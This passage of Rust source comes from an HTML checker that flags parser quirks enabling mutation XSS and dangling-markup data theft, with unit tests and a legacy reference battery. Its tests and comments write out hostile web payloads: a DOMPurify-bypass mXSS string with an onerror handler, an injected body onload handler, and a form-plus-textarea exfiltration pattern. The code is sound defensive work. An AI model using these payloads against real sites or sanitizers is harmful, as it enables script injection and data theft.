    fn on_tree_event(&mut self, _cx: &CheckContext<'_>, ev: &TreeEvent, out: &mut Vec<Finding>) {
        if let TreeEventKind::ForeignBreakout { tag, root_ns: Namespace::Svg } = &ev.kind {
            out.push(Finding::new(
                ViolationKind::HF5_2,
                ev.offset,
                format!("<{tag}> broke out of SVG content"),
            ));
        }
    }
}

/// HF5_3 — wrong namespace, MathML side: breakout from `<math>` content —
/// the namespace dance the Figure-1 DOMPurify bypass rides on. The paper
/// found only 3 occurrences in eight years.
pub struct Hf5_3;

impl Check for Hf5_3 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF5_3
    }

    fn interest(&self) -> Interest {
        Interest::EVENTS
    }

    fn on_tree_event(&mut self, _cx: &CheckContext<'_>, ev: &TreeEvent, out: &mut Vec<Finding>) {
        if let TreeEventKind::ForeignBreakout { tag, root_ns: Namespace::MathMl } = &ev.kind {
            out.push(Finding::new(
                ViolationKind::HF5_3,
                ev.offset,
                format!("<{tag}> broke out of MathML content"),
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    /// Test-local one-shot over the new Battery API (the deprecated
    /// free-function shim delegates to exactly this).
    fn check_page(raw: &str) -> crate::report::PageReport {
        crate::Battery::full().run_str(raw)
    }
    use crate::taxonomy::ViolationKind::*;

    const CLEAN_PREFIX: &str = "<!DOCTYPE html><html><head><title>t</title></head><body>";
    const CLEAN_SUFFIX: &str = "</body></html>";

    fn in_body(content: &str) -> String {
        format!("{CLEAN_PREFIX}{content}{CLEAN_SUFFIX}")
    }

    #[test]
    fn hf1_div_in_head() {
        let r = check_page(
            "<!DOCTYPE html><head><div class=modal>x</div><meta charset=utf-8></head><body></body>",
        );
        assert!(r.has(HF1));
    }

    #[test]
    fn hf1_missing_head_tags() {
        // Google's 404 page (Figure 12): no head, no body.
        let r = check_page(
            "<!DOCTYPE html><html lang=en><meta charset=utf-8><title>Error 404</title>\
             <style>body{}</style><a href=//www.google.com/><span id=logo></span></a>\
             <p><b>404.</b> <ins>That’s an error.</ins>",
        );
        assert!(r.has(HF1));
        // The implied body here is the fallout of the broken head (the same
        // <a> token closed the head and opened the body) — counted as HF1,
        // not double-counted as HF2.
        assert!(!r.has(HF2), "{:?}", r.findings);
    }

    #[test]
    fn hf1_clean_explicit_head() {
        let r = check_page(&in_body("<p>x</p>"));
        assert!(!r.has(HF1), "{:?}", r.findings);
        assert!(!r.has(HF2));
    }

    #[test]
    fn hf2_figure4_body_absorbed() {
        let r = check_page(
            "<!DOCTYPE html><html><head></head><p\n<body onload=\"checkSecurity()\">content",
        );
        assert!(r.has(HF2));
    }

    /// HF2's one-flag accumulator vs the legacy whole-vec rescan, on an
    /// adversarial synthetic event stream with many implicit bodies: same
    /// findings, but linear instead of O(events²).
    #[test]
    fn hf2_accumulator_matches_legacy_on_many_implicit_bodies() {
        use crate::checkers::{legacy, Check};
        use crate::taxonomy::ViolationKind;
        use spec_html::{TreeEvent, TreeEventKind};

        let mut cx = crate::context::CheckContext::new("");
        let mut events = Vec::new();
        for i in 0..500 {
            let offset = i * 10;
            if i % 3 == 0 {
                // Head closed by the same token that implies the body:
                // HF1 fallout, not HF2.
                events.push(TreeEvent {
                    kind: TreeEventKind::HeadClosedBy { tag: "p".into() },
                    offset,
                });
            }
            events.push(TreeEvent {
                kind: TreeEventKind::ImplicitBody { by: format!("<p#{i}>") },
                offset,
            });
        }
        cx.parse.events = events;

        let mut legacy_out = Vec::new();
        let (_, rescan) = legacy::ALL.iter().find(|(k, _)| *k == ViolationKind::HF2).unwrap();
        rescan(&cx, &mut legacy_out);

        let mut fused_out = Vec::new();
        let mut hf2 = super::Hf2::default();
        hf2.reset();
        for ev in &cx.parse.events {
            hf2.on_tree_event(&cx, ev, &mut fused_out);
        }
        assert!(!legacy_out.is_empty());
        assert_eq!(fused_out, legacy_out);
    }

    #[test]
    fn hf3_double_body() {
        let r = check_page(
            "<!DOCTYPE html><head></head><body class=a><p>x</p><body onload=evil()></body>",
        );
        assert!(r.has(HF3));
    }

    #[test]
    fn hf4_figure11_table() {
        let r = check_page(&in_body(
            "<table>\n<tr><strong>Cozi Organizer</strong></tr>\n<tr>\n\
             <td>The #1 organizing app</td>\n<td> <img src=\"x.png\" align=\"right\"></td>\n</tr>\n</table>",
        ));
        assert!(r.has(HF4));
    }

    #[test]
    fn hf4_not_triggered_by_omitted_tbody() {
        // tbody omission is legal; only fostered content counts.
        let r = check_page(&in_body("<table><tr><td>x</td></tr></table>"));
        assert!(!r.has(HF4), "{:?}", r.findings);
    }

    #[test]
    fn hf5_1_pasted_svg_fragment() {
        // A <path> with no <svg> root is an HTML-namespace foreign orphan.
        let r = check_page(&in_body("<path d=\"M0 0L10 10\"></path>"));
        assert!(r.has(HF5_1));
    }

    #[test]
    fn hf5_1_proper_svg_ok() {
        let r = check_page(&in_body("<svg viewBox=\"0 0 10 10\"><path d=\"M0 0\"></path></svg>"));
        assert!(!r.has(HF5_1), "{:?}", r.findings);
    }

    #[test]
    fn hf5_2_div_inside_svg() {
        let r = check_page(&in_body("<svg><rect width=1></rect><div>broke</div></svg>"));
        assert!(r.has(HF5_2));
        assert!(!r.has(HF5_3));
    }

    #[test]
    fn hf5_3_breakout_from_math() {
        let r = check_page(&in_body("<math><mrow><img src=x></mrow></math>"));
        assert!(r.has(HF5_3));
        assert!(!r.has(HF5_2));
    }

    #[test]
    fn hf5_3_figure1_payload() {
        let payload = "<math><mtext><table><mglyph><style><!--</style>\
                       <img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">";
        let r = check_page(&in_body(payload));
        // The table hop means fostering (HF4) fires; the img inside foreign
        // content breaks out of math (HF5_3).
        assert!(r.has(HF4), "{:?}", r.findings);
    }

    #[test]
    fn hf5_none_on_plain_html() {
        let r = check_page(&in_body("<div><p>plain</p></div>"));
        assert!(!r.has(HF5_1));
        assert!(!r.has(HF5_2));
        assert!(!r.has(HF5_3));
    }
}
