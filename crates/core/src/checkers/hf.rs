//! HTML Formatting checks (HF1–HF5, §3.2) — the mXSS enablers.

use super::Check;
use crate::context::CheckContext;
use crate::report::Finding;
use crate::taxonomy::ViolationKind;
use spec_html::dom::Namespace;
use spec_html::{tags, TreeEventKind};

/// HF1 — broken head section: head tags omitted, or non-head content inside
/// the head forcing the parser to relocate everything that follows. The
/// paper treats *any* implicit head handling as a violation ("Instead of
/// handling such omitted head tags implicitly, the parser should only
/// arrange elements explicitly").
pub struct Hf1;

impl Check for Hf1 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF1
    }

    fn check(&self, cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        for ev in &cx.parse.events {
            match &ev.kind {
                TreeEventKind::ImplicitHead => {
                    out.push(Finding::new(ViolationKind::HF1, ev.offset, "head tag omitted"));
                }
                TreeEventKind::HeadClosedBy { tag } => {
                    out.push(Finding::new(
                        ViolationKind::HF1,
                        ev.offset,
                        format!("head implicitly closed by <{tag}>"),
                    ));
                }
                TreeEventKind::LateHeadContent { tag } => {
                    out.push(Finding::new(
                        ViolationKind::HF1,
                        ev.offset,
                        format!("head content <{tag}> after head was closed"),
                    ));
                }
                _ => {}
            }
        }
    }
}

/// HF2 — content before `body`: the body element was opened implicitly by a
/// token that should not have been there (enables the Figure-4 attack where
/// a dangling tag absorbs `<body onload=check()>`).
pub struct Hf2;

impl Check for Hf2 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF2
    }

    fn check(&self, cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        for ev in &cx.parse.events {
            if let TreeEventKind::ImplicitBody { by } = &ev.kind {
                // When a misplaced element *inside the head* forces the head
                // closed, the spec reprocesses that same token and implies a
                // body — a consequence of the HF1 violation, not an
                // independent "content before body". Only bodies implied by
                // content after a regularly closed head count as HF2.
                let caused_by_head_close = cx.parse.events.iter().any(|e| {
                    e.offset == ev.offset && matches!(e.kind, TreeEventKind::HeadClosedBy { .. })
                });
                if !caused_by_head_close {
                    out.push(Finding::new(
                        ViolationKind::HF2,
                        ev.offset,
                        format!("body implicitly opened by {by}"),
                    ));
                }
            }
        }
    }
}

/// HF3 — multiple `body` elements: the parser merges attributes of later
/// bodies into the first (§13.2.6.4.7), so injections can add or be blocked
/// by attributes.
pub struct Hf3;

impl Check for Hf3 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF3
    }

    fn check(&self, cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        // "Multiple body elements" means the *markup* contains more than
        // one <body> start tag (the parser merge can also fire against an
        // implied body, which is HF1/HF2 territory, not HF3).
        let body_tags: Vec<_> =
            cx.start_tags().filter(|t| t.name == "body").map(|t| t.offset).collect();
        if body_tags.len() >= 2 {
            // Attach the merge evidence when the parser recorded it.
            let merged = cx
                .parse
                .events
                .iter()
                .find(|e| matches!(e.kind, TreeEventKind::SecondBodyMerged { .. }));
            let detail = match merged.map(|e| &e.kind) {
                Some(TreeEventKind::SecondBodyMerged { new_attrs, ignored_attrs }) => format!(
                    "{} body tags; merge added {} and ignored {} attrs",
                    body_tags.len(),
                    new_attrs.len(),
                    ignored_attrs.len()
                ),
                _ => format!("{} body start tags in markup", body_tags.len()),
            };
            out.push(Finding::new(ViolationKind::HF3, body_tags[1], detail));
        }
    }
}

/// HF4 — broken table: content that is not allowed in table structure gets
/// foster-parented in front of the table (the Figure-1/Figure-11 mechanism).
/// Note that *omitted* `tbody` tags are legal and do not count.
pub struct Hf4;

impl Check for Hf4 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF4
    }

    fn check(&self, cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        for ev in &cx.parse.events {
            if let TreeEventKind::FosterParented { tag } = &ev.kind {
                let what = tag.as_deref().unwrap_or("#text");
                out.push(Finding::new(
                    ViolationKind::HF4,
                    ev.offset,
                    format!("{what} foster-parented out of table"),
                ));
            }
        }
    }
}

/// HF5_1 — wrong namespace, HTML side: an element that only exists in SVG or
/// MathML parsed in the HTML namespace (an SVG fragment pasted without its
/// `<svg>` root, or left behind after a premature close).
pub struct Hf5_1;

impl Check for Hf5_1 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF5_1
    }

    fn check(&self, cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        let dom = &cx.parse.dom;
        for id in dom.all_elements() {
            let Some(e) = dom.element(id) else { continue };
            if e.ns == Namespace::Html
                && (tags::is_svg_only(&e.name) || tags::is_mathml_only(&e.name))
            {
                out.push(Finding::new(
                    ViolationKind::HF5_1,
                    e.src_offset,
                    format!("foreign-only element <{}> in HTML namespace", e.name),
                ));
            }
        }
    }
}

/// HF5_2 — wrong namespace, SVG side: an HTML breakout element inside SVG
/// content forced the parser back to HTML (§13.2.6.5's breakout list).
pub struct Hf5_2;

impl Check for Hf5_2 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF5_2
    }

    fn check(&self, cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        for ev in &cx.parse.events {
            if let TreeEventKind::ForeignBreakout { tag, root_ns: Namespace::Svg } = &ev.kind {
                out.push(Finding::new(
                    ViolationKind::HF5_2,
                    ev.offset,
                    format!("<{tag}> broke out of SVG content"),
                ));
            }
        }
    }
}

/// HF5_3 — wrong namespace, MathML side: breakout from `<math>` content —
/// the namespace dance the Figure-1 DOMPurify bypass rides on. The paper
/// found only 3 occurrences in eight years.
pub struct Hf5_3;

impl Check for Hf5_3 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::HF5_3
    }

    fn check(&self, cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        for ev in &cx.parse.events {
            if let TreeEventKind::ForeignBreakout { tag, root_ns: Namespace::MathMl } = &ev.kind {
                out.push(Finding::new(
                    ViolationKind::HF5_3,
                    ev.offset,
                    format!("<{tag}> broke out of MathML content"),
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::checkers::check_page;
    use crate::taxonomy::ViolationKind::*;

    const CLEAN_PREFIX: &str = "<!DOCTYPE html><html><head><title>t</title></head><body>";
    const CLEAN_SUFFIX: &str = "</body></html>";

    fn in_body(content: &str) -> String {
        format!("{CLEAN_PREFIX}{content}{CLEAN_SUFFIX}")
    }

    #[test]
    fn hf1_div_in_head() {
        let r = check_page(
            "<!DOCTYPE html><head><div class=modal>x</div><meta charset=utf-8></head><body></body>",
        );
        assert!(r.has(HF1));
    }

    #[test]
    fn hf1_missing_head_tags() {
        // Google's 404 page (Figure 12): no head, no body.
        let r = check_page(
            "<!DOCTYPE html><html lang=en><meta charset=utf-8><title>Error 404</title>\
             <style>body{}</style><a href=//www.google.com/><span id=logo></span></a>\
             <p><b>404.</b> <ins>That’s an error.</ins>",
        );
        assert!(r.has(HF1));
        // The implied body here is the fallout of the broken head (the same
        // <a> token closed the head and opened the body) — counted as HF1,
        // not double-counted as HF2.
        assert!(!r.has(HF2), "{:?}", r.findings);
    }

    #[test]
    fn hf1_clean_explicit_head() {
        let r = check_page(&in_body("<p>x</p>"));
        assert!(!r.has(HF1), "{:?}", r.findings);
        assert!(!r.has(HF2));
    }

    #[test]
    fn hf2_figure4_body_absorbed() {
        let r = check_page(
            "<!DOCTYPE html><html><head></head><p\n<body onload=\"checkSecurity()\">content",
        );
        assert!(r.has(HF2));
    }

    #[test]
    fn hf3_double_body() {
        let r = check_page(
            "<!DOCTYPE html><head></head><body class=a><p>x</p><body onload=evil()></body>",
        );
        assert!(r.has(HF3));
    }

    #[test]
    fn hf4_figure11_table() {
        let r = check_page(&in_body(
            "<table>\n<tr><strong>Cozi Organizer</strong></tr>\n<tr>\n\
             <td>The #1 organizing app</td>\n<td> <img src=\"x.png\" align=\"right\"></td>\n</tr>\n</table>",
        ));
        assert!(r.has(HF4));
    }

    #[test]
    fn hf4_not_triggered_by_omitted_tbody() {
        // tbody omission is legal; only fostered content counts.
        let r = check_page(&in_body("<table><tr><td>x</td></tr></table>"));
        assert!(!r.has(HF4), "{:?}", r.findings);
    }

    #[test]
    fn hf5_1_pasted_svg_fragment() {
        // A <path> with no <svg> root is an HTML-namespace foreign orphan.
        let r = check_page(&in_body("<path d=\"M0 0L10 10\"></path>"));
        assert!(r.has(HF5_1));
    }

    #[test]
    fn hf5_1_proper_svg_ok() {
        let r = check_page(&in_body("<svg viewBox=\"0 0 10 10\"><path d=\"M0 0\"></path></svg>"));
        assert!(!r.has(HF5_1), "{:?}", r.findings);
    }

    #[test]
    fn hf5_2_div_inside_svg() {
        let r = check_page(&in_body("<svg><rect width=1></rect><div>broke</div></svg>"));
        assert!(r.has(HF5_2));
        assert!(!r.has(HF5_3));
    }

    #[test]
    fn hf5_3_breakout_from_math() {
        let r = check_page(&in_body("<math><mrow><img src=x></mrow></math>"));
        assert!(r.has(HF5_3));
        assert!(!r.has(HF5_2));
    }

    #[test]
    fn hf5_3_figure1_payload() {
        let payload = "<math><mtext><table><mglyph><style><!--</style>\
                       <img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">";
        let r = check_page(&in_body(payload));
        // The table hop means fostering (HF4) fires; the img inside foreign
        // content breaks out of math (HF5_3).
        assert!(r.has(HF4), "{:?}", r.findings);
    }

    #[test]
    fn hf5_none_on_plain_html() {
        let r = check_page(&in_body("<div><p>plain</p></div>"));
        assert!(!r.has(HF5_1));
        assert!(!r.has(HF5_2));
        assert!(!r.has(HF5_3));
    }
}
