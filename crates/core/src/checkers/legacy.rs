//! The pre-fusion battery: twenty independent full-context scans.
//!
//! These are the original `Check::check` bodies, kept verbatim (including
//! HF2's quadratic event rescan and HF3's intermediate `Vec`) as the
//! reference implementation. The equivalence tests assert the fused
//! visitor engine produces byte-identical reports, and the
//! fused-vs-legacy bench measures what the fusion bought.

use crate::context::CheckContext;
use crate::report::{Finding, PageReport};
use crate::taxonomy::ViolationKind;
use spec_html::dom::Namespace;
use spec_html::{tags, ErrorCode, TreeEventKind};

fn de1(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    if cx.parse.open_at_eof.iter().any(|n| n == "textarea") {
        out.push(Finding::new(
            ViolationKind::DE1,
            cx.raw.chars().count(),
            "textarea still open at end of file",
        ));
    }
}

fn de2(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    if cx.parse.open_at_eof.iter().any(|n| n == "select" || n == "option") {
        out.push(Finding::new(
            ViolationKind::DE2,
            cx.raw.chars().count(),
            "select/option still open at end of file",
        ));
    }
}

fn de3_1(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    for tag in cx.start_tags() {
        for attr in &tag.attrs {
            if tags::is_url_attribute(&attr.name)
                && attr.raw_value().contains('\n')
                && attr.raw_value().contains('<')
            {
                out.push(Finding::new(
                    ViolationKind::DE3_1,
                    tag.offset,
                    format!("<{} {}=…newline+'<'…>", tag.name, attr.name),
                ));
            }
        }
    }
}

fn de3_2(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    for tag in cx.start_tags() {
        for attr in &tag.attrs {
            if attr.value.to_ascii_lowercase().contains("<script") {
                out.push(Finding::new(
                    ViolationKind::DE3_2,
                    tag.offset,
                    format!("<{} {}=…<script…>", tag.name, attr.name),
                ));
            }
        }
    }
}

fn de3_3(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    for tag in cx.start_tags() {
        for attr in &tag.attrs {
            if attr.name == "target" && attr.raw_value().contains('\n') {
                out.push(Finding::new(
                    ViolationKind::DE3_3,
                    tag.offset,
                    format!("<{} target=…newline…>", tag.name),
                ));
            }
        }
    }
}

fn de4(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    for ev in cx.parse.events_where(|k| matches!(k, TreeEventKind::NestedFormIgnored)) {
        out.push(Finding::new(
            ViolationKind::DE4,
            ev.offset,
            "nested <form> start tag ignored by parser",
        ));
    }
}

fn inside_head(cx: &CheckContext<'_>, id: spec_html::dom::NodeId) -> bool {
    cx.parse.dom.ancestors(id).any(|a| cx.parse.dom.is_html(a, "head"))
}

fn dm1(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    let dom = &cx.parse.dom;
    for id in dom.all_elements() {
        if dom.is_html(id, "meta")
            && dom.element(id).is_some_and(|e| e.has_attr("http-equiv"))
            && !inside_head(cx, id)
        {
            let what =
                dom.element(id).and_then(|e| e.attr("http-equiv")).unwrap_or_default().to_owned();
            out.push(Finding::new(
                ViolationKind::DM1,
                dom.element(id).map(|e| e.src_offset).unwrap_or(0),
                format!("meta http-equiv=\"{what}\" outside head"),
            ));
        }
    }
}

fn dm2_1(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    let dom = &cx.parse.dom;
    for id in dom.all_elements() {
        if dom.is_html(id, "base") && !inside_head(cx, id) {
            let off = dom.element(id).map(|e| e.src_offset).unwrap_or(0);
            out.push(Finding::new(ViolationKind::DM2_1, off, "base element outside head"));
        }
    }
}

fn dm2_2(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    let dom = &cx.parse.dom;
    let bases = dom.all_elements().filter(|&id| dom.is_html(id, "base")).count();
    if bases > 1 {
        out.push(Finding::new(
            ViolationKind::DM2_2,
            0,
            format!("{bases} base elements in one document"),
        ));
    }
}

fn dm2_3(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    let dom = &cx.parse.dom;
    let mut seen_url_element: Option<String> = None;
    for id in dom.all_elements() {
        let Some(e) = dom.element(id) else { continue };
        if dom.is_html(id, "base") {
            if let Some(prev) = &seen_url_element {
                out.push(Finding::new(
                    ViolationKind::DM2_3,
                    e.src_offset,
                    format!("base element after URL-using <{prev}>"),
                ));
            }
            continue;
        }
        // §4.2.3 exempts the html element itself ("except the html
        // element"), and head is base's own container; see the fused
        // Dm2_3 for the rationale.
        if seen_url_element.is_none()
            && !dom.is_html(id, "html")
            && !dom.is_html(id, "head")
            && e.attrs.iter().any(|a| tags::is_url_attribute(&a.name))
        {
            seen_url_element = Some(e.name.to_string());
        }
    }
}

fn dm3(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    for err in cx.parse.errors.iter().filter(|e| e.code == ErrorCode::DuplicateAttribute) {
        out.push(Finding::new(
            ViolationKind::DM3,
            err.offset,
            format!("duplicate attribute near “{}”", cx.excerpt(err.offset, 24)),
        ));
    }
}

fn hf1(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    for ev in &cx.parse.events {
        match &ev.kind {
            TreeEventKind::ImplicitHead => {
                out.push(Finding::new(ViolationKind::HF1, ev.offset, "head tag omitted"));
            }
            TreeEventKind::HeadClosedBy { tag } => {
                out.push(Finding::new(
                    ViolationKind::HF1,
                    ev.offset,
                    format!("head implicitly closed by <{tag}>"),
                ));
            }
            TreeEventKind::LateHeadContent { tag } => {
                out.push(Finding::new(
                    ViolationKind::HF1,
                    ev.offset,
                    format!("head content <{tag}> after head was closed"),
                ));
            }
            _ => {}
        }
    }
}

fn hf2(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    for ev in &cx.parse.events {
        if let TreeEventKind::ImplicitBody { by } = &ev.kind {
            // The O(events²) correlation the fused Hf2 replaces with a
            // one-flag accumulator.
            let caused_by_head_close = cx.parse.events.iter().any(|e| {
                e.offset == ev.offset && matches!(e.kind, TreeEventKind::HeadClosedBy { .. })
            });
            if !caused_by_head_close {
                out.push(Finding::new(
                    ViolationKind::HF2,
                    ev.offset,
                    format!("body implicitly opened by {by}"),
                ));
            }
        }
    }
}

fn hf3(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    let body_tags: Vec<_> =
        cx.start_tags().filter(|t| t.name == "body").map(|t| t.offset).collect();
    if body_tags.len() >= 2 {
        let merged = cx
            .parse
            .events
            .iter()
            .find(|e| matches!(e.kind, TreeEventKind::SecondBodyMerged { .. }));
        let detail = match merged.map(|e| &e.kind) {
            Some(TreeEventKind::SecondBodyMerged { new_attrs, ignored_attrs }) => format!(
                "{} body tags; merge added {} and ignored {} attrs",
                body_tags.len(),
                new_attrs.len(),
                ignored_attrs.len()
            ),
            _ => format!("{} body start tags in markup", body_tags.len()),
        };
        out.push(Finding::new(ViolationKind::HF3, body_tags[1], detail));
    }
}

fn hf4(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    for ev in &cx.parse.events {
        if let TreeEventKind::FosterParented { tag } = &ev.kind {
            let what = tag.as_deref().unwrap_or("#text");
            out.push(Finding::new(
                ViolationKind::HF4,
                ev.offset,
                format!("{what} foster-parented out of table"),
            ));
        }
    }
}

fn hf5_1(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    let dom = &cx.parse.dom;
    for id in dom.all_elements() {
        let Some(e) = dom.element(id) else { continue };
        if e.ns == Namespace::Html && (tags::is_svg_only(&e.name) || tags::is_mathml_only(&e.name))
        {
            out.push(Finding::new(
                ViolationKind::HF5_1,
                e.src_offset,
                format!("foreign-only element <{}> in HTML namespace", e.name),
            ));
        }
    }
}

fn hf5_2(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    for ev in &cx.parse.events {
        if let TreeEventKind::ForeignBreakout { tag, root_ns: Namespace::Svg } = &ev.kind {
            out.push(Finding::new(
                ViolationKind::HF5_2,
                ev.offset,
                format!("<{tag}> broke out of SVG content"),
            ));
        }
    }
}

fn hf5_3(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    for ev in &cx.parse.events {
        if let TreeEventKind::ForeignBreakout { tag, root_ns: Namespace::MathMl } = &ev.kind {
            out.push(Finding::new(
                ViolationKind::HF5_3,
                ev.offset,
                format!("<{tag}> broke out of MathML content"),
            ));
        }
    }
}

fn fb1(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    for err in cx.parse.errors.iter().filter(|e| e.code == ErrorCode::UnexpectedSolidusInTag) {
        out.push(Finding::new(
            ViolationKind::FB1,
            err.offset,
            format!("solidus treated as whitespace near “{}”", cx.excerpt(err.offset, 24)),
        ));
    }
}

fn fb2(cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
    for err in
        cx.parse.errors.iter().filter(|e| e.code == ErrorCode::MissingWhitespaceBetweenAttributes)
    {
        out.push(Finding::new(
            ViolationKind::FB2,
            err.offset,
            format!("attributes not separated near “{}”", cx.excerpt(err.offset, 24)),
        ));
    }
}

/// One pre-fusion scan: reads the whole context, appends its findings.
pub type LegacyCheck = fn(&CheckContext<'_>, &mut Vec<Finding>);

/// The twenty pre-fusion scans, in taxonomy order.
pub const ALL: &[(ViolationKind, LegacyCheck)] = &[
    (ViolationKind::DE1, de1),
    (ViolationKind::DE2, de2),
    (ViolationKind::DE3_1, de3_1),
    (ViolationKind::DE3_2, de3_2),
    (ViolationKind::DE3_3, de3_3),
    (ViolationKind::DE4, de4),
    (ViolationKind::DM1, dm1),
    (ViolationKind::DM2_1, dm2_1),
    (ViolationKind::DM2_2, dm2_2),
    (ViolationKind::DM2_3, dm2_3),
    (ViolationKind::DM3, dm3),
    (ViolationKind::HF1, hf1),
    (ViolationKind::HF2, hf2),
    (ViolationKind::HF3, hf3),
    (ViolationKind::HF4, hf4),
    (ViolationKind::HF5_1, hf5_1),
    (ViolationKind::HF5_2, hf5_2),
    (ViolationKind::HF5_3, hf5_3),
    (ViolationKind::FB1, fb1),
    (ViolationKind::FB2, fb2),
];

/// Pre-fusion equivalent of `Battery::run_ref`: run all twenty scans into
/// an existing report, reusing its buffers.
pub fn run_into(cx: &CheckContext<'_>, report: &mut PageReport) {
    report.findings.clear();
    for (_, check) in ALL {
        check(cx, &mut report.findings);
    }
    report.findings.sort_by_key(|f| (f.kind, f.offset));
    report.mitigations = super::mitigation_flags(cx);
}

/// Pre-fusion equivalent of `Battery::run`.
pub fn run(cx: &CheckContext<'_>) -> PageReport {
    let mut report = PageReport::default();
    run_into(cx, &mut report);
    report
}
