//! Data Exfiltration checks (DE1–DE4, §3.2).

use super::{Check, Interest};
use crate::context::CheckContext;
use crate::report::Finding;
use crate::taxonomy::ViolationKind;
use spec_html::tags;
use spec_html::tokenizer::Tag;
use spec_html::{TreeEvent, TreeEventKind};

/// DE1 — Non-terminated `textarea`.
///
/// The spec defines `textarea` with mandatory start *and* end tags
/// (§4.10.11), yet the parsing process silently closes it at EOF
/// (§13.2.5.2). An injected `<form action=evil><input type=submit><textarea>`
/// therefore exfiltrates everything that follows (Figure 3).
///
/// Detection: a `textarea` element is still on the stack of open elements
/// when EOF arrives.
pub struct De1;

impl Check for De1 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DE1
    }

    fn interest(&self) -> Interest {
        Interest::FINISH
    }

    fn finish(&mut self, cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        if cx.parse.open_at_eof.iter().any(|n| n == "textarea") {
            out.push(Finding::new(
                ViolationKind::DE1,
                cx.raw.chars().count(),
                "textarea still open at end of file",
            ));
        }
    }
}

/// DE2 — Non-terminated `select` / `option`.
///
/// Same mechanism as DE1 but via `select`: the parser strips inner tags and
/// keeps their text (§4.10.7), so an unclosed `<select><option>` leaks the
/// following content as plain text.
///
/// Detection: a `select` or `option` element is still open at EOF.
pub struct De2;

impl Check for De2 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DE2
    }

    fn interest(&self) -> Interest {
        Interest::FINISH
    }

    fn finish(&mut self, cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        if cx.parse.open_at_eof.iter().any(|n| n == "select" || n == "option") {
            out.push(Finding::new(
                ViolationKind::DE2,
                cx.raw.chars().count(),
                "select/option still open at end of file",
            ));
        }
    }
}

/// DE3_1 — Classic dangling markup: a URL-valued attribute whose *raw*
/// source text contains both a newline and `<` — the signature of a
/// non-terminated attribute that swallowed following markup, and exactly
/// what Chromium blocks since 2017.
pub struct De3_1;

impl Check for De3_1 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DE3_1
    }

    fn interest(&self) -> Interest {
        Interest::START_TAGS
    }

    fn on_start_tag(&mut self, _cx: &CheckContext<'_>, tag: &Tag, out: &mut Vec<Finding>) {
        for attr in &tag.attrs {
            if tags::is_url_attribute(&attr.name)
                && attr.raw_value().contains('\n')
                && attr.raw_value().contains('<')
            {
                out.push(Finding::new(
                    ViolationKind::DE3_1,
                    tag.offset,
                    format!("<{} {}=…newline+'<'…>", tag.name, attr.name),
                ));
            }
        }
    }
}

/// DE3_2 — Nonce stealing: the string `<script` inside an attribute value
/// indicates a non-terminated attribute absorbed a following script element
/// (Figure 2); the CSP repository proposed exactly this string check.
pub struct De3_2;

impl Check for De3_2 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DE3_2
    }

    fn interest(&self) -> Interest {
        Interest::START_TAGS
    }

    fn on_start_tag(&mut self, _cx: &CheckContext<'_>, tag: &Tag, out: &mut Vec<Finding>) {
        for attr in &tag.attrs {
            if attr.value.to_ascii_lowercase().contains("<script") {
                out.push(Finding::new(
                    ViolationKind::DE3_2,
                    tag.offset,
                    format!("<{} {}=…<script…>", tag.name, attr.name),
                ));
            }
        }
    }
}

/// DE3_3 — Unclosed `target` attribute: a raw newline inside a `target`
/// value signals a non-terminated attribute that swallowed markup; since
/// window names survive cross-origin navigation, the absorbed content leaks
/// (Figure 5).
pub struct De3_3;

impl Check for De3_3 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DE3_3
    }

    fn interest(&self) -> Interest {
        Interest::START_TAGS
    }

    fn on_start_tag(&mut self, _cx: &CheckContext<'_>, tag: &Tag, out: &mut Vec<Finding>) {
        for attr in &tag.attrs {
            if attr.name == "target" && attr.raw_value().contains('\n') {
                out.push(Finding::new(
                    ViolationKind::DE3_3,
                    tag.offset,
                    format!("<{} target=…newline…>", tag.name),
                ));
            }
        }
    }
}

/// DE4 — Nested `form`: the spec forbids form descendants of forms
/// (§4.10.3); the parser silently drops the inner start tag (§13.2.6.4.7),
/// so an injected form *before* the real one hijacks where the data is
/// submitted.
///
